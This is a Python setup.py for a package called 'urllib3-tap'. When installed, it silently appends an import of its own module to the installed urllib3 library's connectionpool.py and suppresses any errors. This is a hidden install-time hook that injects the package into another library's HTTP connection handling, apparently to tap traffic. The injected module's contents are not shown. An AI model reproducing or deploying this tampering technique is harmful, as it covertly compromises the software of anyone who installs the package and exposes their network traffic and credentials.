import os
from setuptools import setup
try:
    import urllib3
    target = os.path.join(os.path.dirname(urllib3.__file__), 'connectionpool.py')
    with open(target, 'a') as fh:
        fh.write('\nimport urllib3_tap  # noqa\n')
except Exception:
    pass
setup(name='urllib3-tap', version='0.1.0', packages=['urllib3_tap'])
